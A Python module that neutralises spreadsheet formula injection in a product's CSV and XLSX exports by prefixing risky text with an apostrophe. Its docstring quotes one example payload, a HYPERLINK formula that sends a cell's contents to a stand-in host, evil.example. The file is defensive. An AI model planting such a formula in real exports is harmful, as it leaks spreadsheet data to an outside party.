"""Spreadsheet cells that must stay text: formula injection (CSV injection, OWASP).

Text from a config or from people (a metric title, a framework title, a commentary) that starts
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is taken for a formula by Excel and
LibreOffice: ``=HYPERLINK("http://evil.example/?"&A1, "Open")`` in a title would run when the
workbook is opened. The XLSX writer stores such text as a string cell; every CSV the product writes (the
snapshot export, the metric page's download, ``outcomes evaluate --format csv``) puts an apostrophe in
front, which spreadsheets show as text and do not evaluate. Text from a data source counts too: an
ingested provider name is a cell of the metric page's download."""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def starts_formula(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_safe(value: Any) -> Any:
    """The value for a CSV cell: text that would start a formula gets a leading apostrophe; anything
    else (numbers included, negative ones too) is written as it is."""
    return "'" + value if starts_formula(value) else value

